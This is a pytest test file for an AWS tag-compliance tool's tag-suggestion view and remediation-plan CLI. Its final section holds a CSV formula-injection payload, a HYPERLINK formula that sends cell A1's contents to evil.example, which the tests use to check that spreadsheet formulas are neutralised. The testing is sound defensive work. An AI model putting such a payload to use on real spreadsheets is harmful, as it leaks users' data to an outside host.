"""tag_suggestions and remediation plans: exact rows over a hand-built lake where every answer is known.

The story (account 1 unless said; every resource is scored with ``POLICY``):

- stack ``checkout`` (us-east-1): three compliant instances (CC-1001 twice, CC-2002), a compliant
  function (CC-1001; Environment 'qa', which only the optional rule on Lambda allows), an instance
  exempted for its bad CostCenter (not evidence), ``i-co-4`` without CostCenter (stack: 4 of 5 carry
  CC-1001, the function and the bucket included) and the bucket ``checkout-assets`` (region 'global',
  in the stack by its stack-id tag) with an empty Environment (stack: 5 of 5 'prod'; the function's
  'qa' is invalid on a bucket, so it is no neighbour).
- ``i-case``: ``costcenter=CC-1001``, a value passing instances carry: rename the key.
- ``i-case-bad``: ``costcenter=cc-9`` (invalid): a new value from its name prefix ``report-gen``.
- ECS: ``prod-cluster/new`` has CostCenter ``CC-5`` (cluster: 2 of 3 carry CC-5005);
  ``dev-cluster/solo`` is alone in its cluster and named ``solo`` (no prefix): the account's services.
- ``ingest-job-3`` (Lambda, eu-west-1) without CostCenter: its prefix-mates tie, CC-7001 < CC-7002.
- ``i-etl`` without Environment: its stack-mates and prefix-mates are functions tagged 'qa', invalid
  on an instance, so only the account's instances give evidence (5 of 8 'prod').
- account 2: ``orphan-db`` lacks CostCenter and has no neighbour of any kind: no row; stack ``fleet``
  has two compliant instances and 21 without CostCenter (one tag-resources batch of 20, one of 1).
- 2026-04-01, an earlier day: ``i-co-1`` and ``i-co-4`` only.
"""

from __future__ import annotations

import argparse
import copy
import csv
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

from tag_compliance import remediation
from tag_compliance.policy import TaggingPolicy
from tag_compliance.remediation import (
    COLUMNS,
    PLAN_COLUMNS,
    PlanError,
    RemediationPlan,
    add_parser,
    plan_document,
    remediation_plan,
    write_csv,
)
from tag_compliance.scoring import connect, load_sql, score_resources, score_snapshot
from tag_compliance.warehouse import VIEW_COLUMNS, publish_warehouse
from tests.sql_fixtures import arn, query, resource, resources_table, write_snapshot

A1, A2 = "012345678901", "210987654321"
A1_NAME = "checkout-prod"  # as AWS Organizations names it; A2 is configured by id, without a name
NAMES = {A1: A1_NAME}
US, EU, GLOBAL = "us-east-1", "eu-west-1", "global"
EC2, S3, LAMBDA, ECS, RDS = "ec2:instance", "s3:bucket", "lambda:function", "ecs:service", "rds:db"
STACK, STACK_ID = "aws:cloudformation:stack-name", "aws:cloudformation:stack-id"
DAY, EARLIER = date(2026, 4, 2), date(2026, 4, 1)
CC, ENV = "CostCenter", "Environment"
MISSING = "missing_required_tag"

POLICY = TaggingPolicy.model_validate(
    {
        "version": "suggest-1",
        "required_tags": [
            {"key": "CostCenter", "pattern": "CC-[0-9]{4}"},
            {
                "key": "Environment",
                "allowed_values": ["prod", "staging", "dev"],
                "applies_to": ["ec2:*", "ecs:*", "s3:*"],
            },
        ],
        # Checked on the other types when present: Lambda functions may say 'qa'.
        "optional_tags": [{"key": "Environment", "allowed_values": ["prod", "qa"]}],
        "exemptions": [
            {"resources": ["i-exempt-*"], "keys": ["CostCenter"], "reason": "Legacy", "expires": "2099-12-31"}
        ],
    }
)


def res(
    account: str, region: str, resource_type: str, resource_id: str, tags: dict[str, str], name: str | None
) -> dict[str, Any]:
    row = resource(account, region, resource_type, resource_id, tags)
    row["name"] = name
    return row


CHECKOUT = {STACK: "checkout"}
CHECKOUT_ID = f"arn:aws:cloudformation:us-east-1:{A1}:stack/checkout/1f2e"
FLEET_NODES = [f"i-fleet-{n:02d}" for n in range(1, 22)]
RESOURCES: list[dict[str, Any]] = [
    res(A1, US, EC2, "i-co-1", {**CHECKOUT, CC: "CC-1001", ENV: "prod"}, "checkout-web-1"),
    res(A1, US, EC2, "i-co-2", {**CHECKOUT, CC: "CC-1001", ENV: "prod"}, "checkout-web-2"),
    res(A1, US, EC2, "i-co-3", {**CHECKOUT, CC: "CC-2002", ENV: "prod"}, "checkout-worker"),
    res(A1, US, LAMBDA, "fn-co", {**CHECKOUT, CC: "CC-1001", ENV: "qa"}, "checkout-fn"),
    res(A1, US, EC2, "i-co-4", {**CHECKOUT, ENV: "prod"}, "checkout-web-3"),
    res(A1, US, EC2, "i-exempt-1", {**CHECKOUT, CC: "CC-1", ENV: "prod"}, "legacy-box"),
    res(A1, GLOBAL, S3, "checkout-assets", {**CHECKOUT, STACK_ID: CHECKOUT_ID, CC: "CC-1001", ENV: ""},
        "checkout-assets"),
    res(A1, GLOBAL, S3, "logs-archive", {CC: "CC-3003", ENV: "prod"}, "logs-archive"),
    res(A1, EU, EC2, "i-case", {"costcenter": "CC-1001", ENV: "dev"}, "batch-runner"),
    res(A1, EU, EC2, "i-case-bad", {"costcenter": "cc-9", ENV: "dev"}, "report-gen-1"),
    res(A1, EU, EC2, "i-report-2", {CC: "CC-4004", ENV: "dev"}, "report-gen-2"),
    res(A1, US, ECS, "prod-cluster/api", {CC: "CC-5005", ENV: "prod"}, "api"),
    res(A1, US, ECS, "prod-cluster/web", {CC: "CC-5005", ENV: "prod"}, "web"),
    res(A1, US, ECS, "prod-cluster/jobs", {CC: "CC-6006", ENV: "prod"}, "jobs"),
    res(A1, US, ECS, "prod-cluster/new", {CC: "CC-5", ENV: "prod"}, "new"),
    res(A1, US, ECS, "dev-cluster/solo", {ENV: "dev"}, "solo"),
    res(A1, EU, LAMBDA, "ingest-job-1", {CC: "CC-7001"}, "ingest-job-1"),
    res(A1, EU, LAMBDA, "ingest-job-2", {CC: "CC-7002"}, "ingest-job-2"),
    res(A1, EU, LAMBDA, "ingest-job-3", {}, "ingest-job-3"),
    res(A1, US, LAMBDA, "fn-etl-a", {STACK: "etl", CC: "CC-1001", ENV: "qa"}, "etl-extract"),
    res(A1, US, LAMBDA, "fn-etl-b", {STACK: "etl", CC: "CC-1001", ENV: "qa"}, "etl-load"),
    res(A1, US, EC2, "i-etl", {STACK: "etl", CC: "CC-1001"}, "etl-runner"),
    res(A2, US, RDS, "orphan-db", {ENV: "prod"}, "orphan-db"),
    res(A2, GLOBAL, S3, "shared-data", {CC: "CC-8008", ENV: "prod"}, "shared-data"),
    res(A2, US, EC2, "i-fleet-a", {STACK: "fleet", CC: "CC-9009", ENV: "prod"}, None),
    res(A2, US, EC2, "i-fleet-b", {STACK: "fleet", CC: "CC-9009", ENV: "prod"}, None),
    *(res(A2, US, EC2, node, {STACK: "fleet", ENV: "prod"}, None) for node in FLEET_NODES),
]  # fmt: skip
EARLIER_RESOURCES = [row for row in RESOURCES if row["resource_id"] in {"i-co-1", "i-co-4"}]


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("suggestions")
    write_snapshot(root / "lake", EARLIER_RESOURCES, snapshot_date=EARLIER)
    write_snapshot(
        root / "lake",
        RESOURCES,
        snapshot_date=DAY,
        accounts=[
            {"account_id": A1, "name": A1_NAME, "inventoried": True},
            {"account_id": A2, "inventoried": True},
        ],
    )
    assert score_snapshot(root / "lake", EARLIER, POLICY).violations == 1
    assert score_snapshot(root / "lake", DAY, POLICY).violations == 30
    path = root / "warehouse.duckdb"
    publish_warehouse(root / "lake", path)
    return path


# --- the view -----------------------------------------------------------------------------------


def suggestion(
    day: date,
    account: str,
    region: str,
    resource_type: str,
    resource_id: str,
    key: str,
    violation_type: str,
    current: tuple[str, str] | None,
    value: str,
    confidence: float,
    evidence: str,
    detail: str,
    neighbours: int,
    agreeing: int,
) -> tuple[Any, ...]:
    """A row of tag_suggestions; ``current`` is (current_key, current_value)."""
    current_key, current_value = current or (None, None)
    action = "rename_key" if evidence == "key_case" else "set_value"
    return (
        day, account, region, resource_type, resource_id, arn(account, region, resource_type, resource_id),
        key, violation_type, current_key, current_value, value, action, confidence, evidence, detail,
        neighbours, agreeing,
    )  # fmt: skip


FLEET_ROWS = [
    suggestion(DAY, A2, US, EC2, node, CC, MISSING, None, "CC-9009", 0.9, "cloudformation_stack",
               "stack fleet: 2 of 2 resources", 2, 2)
    for node in FLEET_NODES
]  # fmt: skip
A1_ROWS = [
    suggestion(DAY, A1, EU, EC2, "i-case", CC, "wrong_key_case", ("costcenter", "CC-1001"), "CC-1001", 1.0,
               "key_case", "costcenter -> CostCenter: carried by 3 passing ec2:instance resources", 3, 3),
    suggestion(DAY, A1, EU, EC2, "i-case-bad", CC, "wrong_key_case", ("costcenter", "cc-9"), "CC-4004", 0.6,
               "name_prefix", "name prefix report-gen: 1 of 1 resource", 1, 1),
    # A tie: CC-7001 and CC-7002 once each; the smaller wins, at half the weight.
    suggestion(DAY, A1, EU, LAMBDA, "ingest-job-3", CC, MISSING, None, "CC-7001", 0.3, "name_prefix",
               "name prefix ingest-job: 1 of 2 resources", 2, 1),
    suggestion(DAY, A1, GLOBAL, S3, "checkout-assets", "Environment", "empty_value", ("Environment", ""),
               "prod", 0.9, "cloudformation_stack", "stack checkout: 5 of 5 resources", 5, 5),
    suggestion(DAY, A1, US, EC2, "i-co-4", CC, MISSING, None, "CC-1001", 0.72, "cloudformation_stack",
               "stack checkout: 4 of 5 resources", 5, 4),
    suggestion(DAY, A1, US, EC2, "i-etl", "Environment", MISSING, None, "prod", 0.3125,
               "account_type_majority", "ec2:instance in account 012345678901: 5 of 8 resources", 8, 5),
    suggestion(DAY, A1, US, ECS, "dev-cluster/solo", CC, MISSING, None, "CC-5005", 0.3333,
               "account_type_majority", "ecs:service in account 012345678901: 2 of 3 resources", 3, 2),
    suggestion(DAY, A1, US, ECS, "prod-cluster/new", CC, "invalid_format", (CC, "CC-5"), "CC-5005", 0.5333,
               "ecs_cluster", "ECS cluster prod-cluster: 2 of 3 resources", 3, 2),
]  # fmt: skip
EXPECTED = [
    suggestion(EARLIER, A1, US, EC2, "i-co-4", CC, MISSING, None, "CC-1001", 0.9, "cloudformation_stack",
               "stack checkout: 1 of 1 resource", 1, 1),
    *A1_ROWS,
    *FLEET_ROWS,
]  # fmt: skip


def test_tag_suggestions_exact_rows(warehouse: Path) -> None:
    assert query(warehouse, "SELECT * FROM tag_suggestions") == EXPECTED


def test_no_evidence_gives_no_row(warehouse: Path) -> None:
    # orphan-db is the only rds:db of account 2, in no stack, and no name shares its prefix.
    violations = "SELECT violation_type FROM violations WHERE resource_id = 'orphan-db' AND snapshot_date = ?"
    assert query(warehouse, violations, [DAY]) == [(MISSING,)]
    assert query(warehouse, "SELECT count(*) FROM tag_suggestions WHERE resource_id = 'orphan-db'") == [(0,)]


def test_every_fixable_violation_with_evidence_has_one_row(warehouse: Path) -> None:
    # 30 violations on DAY, all fixable; orphan-db's alone lacks evidence.
    assert query(
        warehouse,
        "SELECT count(*), count(DISTINCT (resource_id, tag_key)) FROM tag_suggestions "
        "WHERE snapshot_date = ?",
        [DAY],
    ) == [(29, 29)]


def test_neighbours_of_another_type_count_only_with_a_value_valid_for_this_type(warehouse: Path) -> None:
    # i-etl's stack-mates and prefix-mates all say 'qa', which passes on a function but not on an
    # instance: they are no evidence, the account's instances are.
    assert query(
        warehouse, "SELECT suggested_value, evidence FROM tag_suggestions WHERE resource_id = 'i-etl'"
    ) == [("prod", "account_type_majority")]
    # i-co-4: the function and the bucket of the stack carry CC-1001, which instances carry too: counted;
    # the exempted instance's CC-1 is not (an exemption waives an invalid value, it does not make it valid).
    assert query(
        warehouse,
        "SELECT neighbours, agreeing FROM tag_suggestions WHERE resource_id = 'i-co-4' AND snapshot_date = ?",
        [DAY],
    ) == [(5, 4)]


def test_suggestion_columns_mirror_the_view() -> None:
    assert list(COLUMNS) == list(VIEW_COLUMNS["tag_suggestions"])


# --- the name prefix ----------------------------------------------------------------------------


def prefix_evidence(target_name: str | None, neighbour_name: str) -> list[tuple[Any, ...]]:
    """What the view proposes for an instance named ``target_name`` (id 'batch-9') missing K,
    whose only neighbour is a function named ``neighbour_name`` carrying K=v; an instance of
    another account carries v too (so v is valid, but that instance is no neighbour)."""
    scored = [
        (A1, EC2, "batch-9", target_name, {}),
        (A1, LAMBDA, "fn", neighbour_name, {"K": "v"}),
        (A2, EC2, "i-witness", "witness", {"K": "v"}),
    ]
    resource_compliance = pa.table(
        {
            "snapshot_date": [DAY] * 3,
            "account_id": [account for account, *_ in scored],
            "region": [US] * 3,
            "resource_type": [resource_type for _, resource_type, *_ in scored],
            "resource_id": [resource_id for _, _, resource_id, *_ in scored],
            "arn": [arn(account, US, kind, rid) for account, kind, rid, *_ in scored],
            "name": [name for *_, name, _ in scored],
            "tags": pa.array([list(tags.items()) for *_, tags in scored], pa.map_(pa.string(), pa.string())),
        }
    )
    violations = pa.table(
        {
            "snapshot_date": [DAY],
            "account_id": [A1],
            "region": [US],
            "resource_type": [EC2],
            "resource_id": ["batch-9"],
            "tag_key": ["K"],
            "violation_type": [MISSING],
            "current_value": pa.array([None], pa.string()),
        }
    )
    with connect() as con:
        con.register("resource_compliance", resource_compliance)
        con.register("violations", violations)
        con.register("exempted_violations", violations.slice(0, 0))
        return con.execute(
            f"SELECT evidence, evidence_detail FROM ({load_sql('tag_suggestions')})"
        ).fetchall()


@pytest.mark.parametrize(
    ("target_name", "neighbour_name", "prefix"),
    [
        ("checkout-web-3", "checkout-web-12", "checkout-web"),  # a trailing digit run, and its '-'
        ("web01", "web-7", "web"),
        ("web_2", "web.3", "web"),
        ("orders-api-blue", "orders-api-green", "orders-api"),  # no digits: up to the last separator
        ("orders-api", "orders-web", "orders"),
        (None, "batch-10", "batch"),  # no name: the resource_id ('batch-9')
        ("  ", "batch-10", "batch"),  # a blank name too
        ("analytics", "analytics-2", None),  # no digit run nor separator: no prefix
        ("db-1", "db-2", None),  # shorter than 3 characters
        ("i-0abc", "i-0abd", None),  # 'i'
        ("123-4", "123-5", None),  # no letter
        ("Web-1", "web-2", None),  # compared exactly
    ],
)
def test_name_prefix(target_name: str | None, neighbour_name: str, prefix: str | None) -> None:
    expected = [("name_prefix", f"name prefix {prefix}: 1 of 1 resource")] if prefix else []
    assert prefix_evidence(target_name, neighbour_name) == expected


# --- applying the suggestions -------------------------------------------------------------------


def violation_keys(table: pa.Table) -> set[tuple[str, ...]]:
    columns = ["account_id", "region", "resource_type", "resource_id", "tag_key", "violation_type"]
    return set(zip(*(table[column].to_pylist() for column in columns), strict=True))


def score(rows: list[dict[str, Any]]) -> dict[str, pa.Table]:
    with connect() as con:
        con.register("snapshot_resources", resources_table(rows))
        return score_resources(con, POLICY, inventory_as_of=DAY, scored_date=DAY)


def test_applying_every_suggestion_removes_exactly_those_violations(warehouse: Path) -> None:
    suggestions = query(
        warehouse,
        "SELECT account_id, region, resource_type, resource_id, tag_key, violation_type, current_key, "
        "suggested_value FROM tag_suggestions WHERE snapshot_date = ?",
        [DAY],
    )
    fixed = copy.deepcopy(RESOURCES)
    by_identity = {(r["account_id"], r["region"], r["resource_type"], r["resource_id"]): r for r in fixed}
    for account, region, resource_type, resource_id, key, violation_type, current_key, value in suggestions:
        tags = by_identity[(account, region, resource_type, resource_id)]["tags"]
        if violation_type == "wrong_key_case":
            del tags[current_key]  # the plan's untag-resources of the other-case key
        tags[key] = value
    before, after = score(RESOURCES), score(fixed)
    suggested = {row[:6] for row in suggestions}
    assert suggested <= violation_keys(before["violations"])
    assert violation_keys(after["violations"]) == violation_keys(before["violations"]) - suggested
    assert violation_keys(after["violations"]) == {(A2, US, RDS, "orphan-db", CC, MISSING)}
    assert violation_keys(after["exempted_violations"]) == violation_keys(before["exempted_violations"])


# --- the remediation plan -----------------------------------------------------------------------

CSV_HEADER = (
    "snapshot_date,account_id,account_name,region,resource_type,resource_id,arn,tag_key,violation_type,current_key,"
    "current_value,suggested_value,action,confidence,evidence,evidence_detail,neighbours,agreeing\n"
)
# Account 1 on DAY at the default minimum confidence 0.5, by account, region, type, id and key.
A1_CSV = CSV_HEADER + (
    f"2026-04-02,{A1},{A1_NAME},eu-west-1,ec2:instance,i-case,arn:aws:ec2:eu-west-1:{A1}:i-case,CostCenter,"
    "wrong_key_case,costcenter,CC-1001,CC-1001,rename_key,1.0,key_case,"
    "costcenter -> CostCenter: carried by 3 passing ec2:instance resources,3,3\n"
    f"2026-04-02,{A1},{A1_NAME},eu-west-1,ec2:instance,i-case-bad,arn:aws:ec2:eu-west-1:{A1}:i-case-bad,CostCenter,"
    "wrong_key_case,costcenter,cc-9,CC-4004,set_value,0.6,name_prefix,"
    "name prefix report-gen: 1 of 1 resource,1,1\n"
    f"2026-04-02,{A1},{A1_NAME},global,s3:bucket,checkout-assets,arn:aws:s3:global:{A1}:checkout-assets,Environment,"
    "empty_value,Environment,,prod,set_value,0.9,cloudformation_stack,stack checkout: 5 of 5 resources,5,5\n"
    f"2026-04-02,{A1},{A1_NAME},us-east-1,ec2:instance,i-co-4,arn:aws:ec2:us-east-1:{A1}:i-co-4,CostCenter,"
    "missing_required_tag,,,CC-1001,set_value,0.72,cloudformation_stack,"
    "stack checkout: 4 of 5 resources,5,4\n"
    f"2026-04-02,{A1},{A1_NAME},us-east-1,ecs:service,prod-cluster/new,arn:aws:ecs:us-east-1:{A1}:prod-cluster/new,"
    "CostCenter,invalid_format,CostCenter,CC-5,CC-5005,set_value,0.5333,ecs_cluster,"
    "ECS cluster prod-cluster: 2 of 3 resources,3,2\n"
)


def json_row(row: tuple[Any, ...]) -> dict[str, Any]:
    named = dict(zip(COLUMNS, row, strict=True))
    named = {
        **{key: named[key] for key in ("snapshot_date", "account_id")},
        "account_name": NAMES.get(named["account_id"]),
        **{key: value for key, value in named.items() if key not in ("snapshot_date", "account_id")},
    }
    return {name: value.isoformat() if isinstance(value, date) else value for name, value in named.items()}


def batch(account: str, region: str, arns: list[str], **cli_input: Any) -> dict[str, Any]:
    """A tag_resources / untag_resources entry of the JSON plan."""
    return {
        "account_id": account,
        "account_name": NAMES.get(account),
        "region": region,
        "cli_input": {"ResourceARNList": arns, **cli_input},
    }


A1_JSON: dict[str, Any] = {
    "snapshot_date": "2026-04-02",
    "account_id": A1,
    "min_confidence": 0.5,
    "note": remediation.RUN_ORDER_NOTE,
    "tag_resources": [
        batch(A1, EU, [arn(A1, EU, EC2, "i-case")], Tags={CC: "CC-1001"}),
        batch(A1, EU, [arn(A1, EU, EC2, "i-case-bad")], Tags={CC: "CC-4004"}),
        batch(A1, GLOBAL, [arn(A1, GLOBAL, S3, "checkout-assets")], Tags={ENV: "prod"}),
        batch(A1, US, [arn(A1, US, EC2, "i-co-4")], Tags={CC: "CC-1001"}),
        batch(A1, US, [arn(A1, US, ECS, "prod-cluster/new")], Tags={CC: "CC-5005"}),
    ],
    # Run after the tag batches: the rename of i-case and the new value of i-case-bad.
    "untag_resources": [
        batch(A1, EU, [arn(A1, EU, EC2, "i-case"), arn(A1, EU, EC2, "i-case-bad")], TagKeys=["costcenter"]),
    ],
    "suggestions": [json_row(row) for row in A1_ROWS if row[12] >= 0.5],
}  # fmt: skip


def test_plan_defaults_to_the_latest_day_and_filters_by_confidence(warehouse: Path) -> None:
    plan = remediation_plan(warehouse)
    assert (plan.snapshot_date, plan.account_id, plan.min_confidence) == (DAY, None, 0.5)
    expected = [row for row in [*A1_ROWS, *FLEET_ROWS] if row[12] >= 0.5]
    assert [tuple(getattr(s, name) for name in COLUMNS) for s in plan.suggestions] == expected
    assert list(plan.groups) == [(A1, EU), (A1, GLOBAL), (A1, US), (A2, US)]
    assert [s.resource_id for s in plan.groups[(A1, US)]] == ["i-co-4", "prod-cluster/new"]
    everything = remediation_plan(warehouse, min_confidence=0.0)
    assert len(everything.suggestions) == 29


def test_plan_of_an_earlier_day_and_errors(warehouse: Path, tmp_path: Path) -> None:
    plan = remediation_plan(warehouse, date=EARLIER)
    assert [(s.snapshot_date, s.resource_id, s.suggested_value) for s in plan.suggestions] == [
        (EARLIER, "i-co-4", "CC-1001")
    ]
    with pytest.raises(PlanError, match=r"snapshot 2026-03-31 was not scored \(latest scored: 2026-04-02\)"):
        remediation_plan(warehouse, date=date(2026, 3, 31))
    with pytest.raises(ValueError, match="min_confidence must be between 0 and 1"):
        remediation_plan(warehouse, min_confidence=1.5)
    empty = tmp_path / "empty.duckdb"
    publish_warehouse(tmp_path / "no-lake", empty)
    with pytest.raises(PlanError, match="has no scored snapshot yet"):
        remediation_plan(empty)


def test_plan_csv(warehouse: Path) -> None:
    out = io.StringIO()
    write_csv(remediation_plan(warehouse, account=A1), out)
    assert out.getvalue() == A1_CSV


def test_plan_json(warehouse: Path) -> None:
    assert plan_document(remediation_plan(warehouse, account=A1)) == A1_JSON


def test_plan_json_batches_at_most_20_arns(warehouse: Path) -> None:
    document = plan_document(remediation_plan(warehouse, account=A2))
    fleet = [arn(A2, US, EC2, node) for node in FLEET_NODES]
    assert document["tag_resources"] == [
        batch(A2, US, fleet[:20], Tags={CC: "CC-9009"}),
        batch(A2, US, fleet[20:], Tags={CC: "CC-9009"}),
    ]
    assert document["untag_resources"] == []
    assert {row["account_id"] for row in document["suggestions"]} == {A2}


def test_batches_group_resources_by_the_whole_set_of_tags() -> None:
    def row(resource_id: str, key: str, value: str, violation_type: str = MISSING) -> remediation.Suggestion:
        current_key = key.lower() if violation_type == "wrong_key_case" else None
        return remediation.Suggestion(
            DAY, A1, US, EC2, resource_id, arn(A1, US, EC2, resource_id), key, violation_type, current_key,
            None, value, "set_value", 0.9, "cloudformation_stack", "stack s: 1 of 1 resource", 1, 1,
        )  # fmt: skip

    plan = RemediationPlan(
        DAY,
        None,
        0.5,
        (
            row("i-1", "CostCenter", "CC-1001"),
            row("i-1", "Environment", "prod", "wrong_key_case"),
            row("i-2", "CostCenter", "CC-1001"),
            row("i-3", "CostCenter", "CC-1001"),
            row("i-3", "Environment", "prod", "wrong_key_case"),
        ),
    )
    assert [(b.arns, b.tags) for b in plan.tag_batches()] == [
        ((arn(A1, US, EC2, "i-2"),), (("CostCenter", "CC-1001"),)),
        ((arn(A1, US, EC2, "i-1"), arn(A1, US, EC2, "i-3")), ((CC, "CC-1001"), (ENV, "prod"))),
    ]
    assert [(b.arns, b.keys) for b in plan.untag_batches()] == [
        ((arn(A1, US, EC2, "i-1"), arn(A1, US, EC2, "i-3")), ("environment",))
    ]


# --- the command --------------------------------------------------------------------------------


def run(argv: list[str]) -> int:
    """``remediation-plan`` through add_parser on a fresh parser, as cli.build_parser will wire it."""
    parser = argparse.ArgumentParser(prog="tag-compliance")
    add_parser(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["remediation-plan", *argv])
    return args.func(args)


def test_command_writes_csv_to_stdout(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--warehouse", str(warehouse), "--account", A1]) == 0
    captured = capsys.readouterr()
    assert captured.out == A1_CSV
    summary = "5 suggestions for 2026-04-02 (confidence >= 0.5): 5 tag-resources and 1 untag-resources calls"
    assert summary in captured.err


def test_command_writes_json_and_csv_files(
    warehouse: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["--warehouse", str(warehouse), "--account", A1, "-o", str(tmp_path / "plan.json")]) == 0
    assert json.loads((tmp_path / "plan.json").read_text(encoding="utf-8")) == A1_JSON
    assert run(["--warehouse", str(warehouse), "--account", A1, "-o", str(tmp_path / "plan.CSV")]) == 0
    assert (tmp_path / "plan.CSV").read_text(encoding="utf-8") == A1_CSV
    assert capsys.readouterr().out == ""
    assert sorted(path.name for path in tmp_path.iterdir()) == ["plan.CSV", "plan.json"]


def test_command_options(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--warehouse", str(warehouse), "--date", "2026-04-01", "--min-confidence", "0.9"]) == 0
    out = capsys.readouterr().out.splitlines()
    # the account's latest name labels an earlier day's plan too
    assert [line.split(",")[:6] for line in out[1:]] == [["2026-04-01", A1, A1_NAME, US, EC2, "i-co-4"]]
    assert run(["--warehouse", str(warehouse), "--min-confidence", "0.95"]) == 0
    assert [line.split(",")[5] for line in capsys.readouterr().out.splitlines()[1:]] == ["i-case"]


def test_command_errors(warehouse: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--warehouse", str(warehouse), "-o", str(tmp_path / "plan.txt")]) == 2
    assert "must end in .csv or .json" in capsys.readouterr().err
    assert run(["--warehouse", str(tmp_path / "missing.duckdb")]) == 1
    assert "does not exist" in capsys.readouterr().err
    assert run(["--warehouse", str(warehouse), "--date", "2026-03-31"]) == 1
    assert "snapshot 2026-03-31 was not scored" in capsys.readouterr().err
    for bad in (["--min-confidence", "1.5"], ["--min-confidence", "x"], ["--date", "04/02/2026"]):
        with pytest.raises(SystemExit) as exit_info:
            run(["--warehouse", str(warehouse), *bad])
        assert exit_info.value.code == 2
    assert list(tmp_path.iterdir()) == []


# --- CSV a spreadsheet opens safely (issue 11, defect 8a) ----------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FORMULA_POLICY = TaggingPolicy.model_validate(
    {"version": "csv-1", "required_tags": [{"key": "Owner", "applies_to": ["ec2:*"]}]}
)


@pytest.fixture(scope="module")
def formula_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Stack ``web``: two instances whose Owner is a formula, and ``@i-3`` without Owner, so the
    plan proposes the formula as its value."""
    root = tmp_path_factory.mktemp("formula")
    rows = [
        res(A1, US, EC2, "i-1", {STACK: "web", "Owner": FORMULA}, "web-1"),
        res(A1, US, EC2, "i-2", {STACK: "web", "Owner": FORMULA}, "web-2"),
        res(A1, US, EC2, "@i-3", {STACK: "web"}, "web-3"),
    ]
    write_snapshot(root / "lake", rows, snapshot_date=DAY, accounts=[{"account_id": A1, "name": A1_NAME}])
    score_snapshot(root / "lake", DAY, FORMULA_POLICY)
    path = root / "warehouse.duckdb"
    publish_warehouse(root / "lake", path)
    return path


FORMULA_ROW = [
    "2026-04-02", A1, A1_NAME, US, EC2, "@i-3", arn(A1, US, EC2, "@i-3"), "Owner", MISSING, "", "", FORMULA,
    "set_value", "0.9", "cloudformation_stack", "stack web: 2 of 2 resources", "2", "2",
]  # fmt: skip
GUARDED_ROW = [*FORMULA_ROW[:5], "'@i-3", *FORMULA_ROW[6:11], "'" + FORMULA, *FORMULA_ROW[12:]]


def test_plan_csv_neutralises_formula_cells(
    formula_warehouse: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["--warehouse", str(formula_warehouse)]) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [list(PLAN_COLUMNS), GUARDED_ROW]
    assert run(["--warehouse", str(formula_warehouse), "-o", str(tmp_path / "plan.csv")]) == 0
    with (tmp_path / "plan.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file)) == [list(PLAN_COLUMNS), GUARDED_ROW]


def test_plan_raw_csv_and_json_keep_exact_values(
    formula_warehouse: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["--warehouse", str(formula_warehouse), "--raw-csv"]) == 0
    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [list(PLAN_COLUMNS), FORMULA_ROW]
    # The JSON plan is AWS CLI input: the value to set is the tag's exact value.
    assert run(["--warehouse", str(formula_warehouse), "-o", str(tmp_path / "plan.json")]) == 0
    document = json.loads((tmp_path / "plan.json").read_text(encoding="utf-8"))
    assert document["tag_resources"] == [batch(A1, US, [arn(A1, US, EC2, "@i-3")], Tags={"Owner": FORMULA})]


def test_plan_help_documents_the_formula_guard(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        run(["--help"])
    assert exit_.value.code == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "--raw-csv" in text and "= + - @" in text and "formula" in text
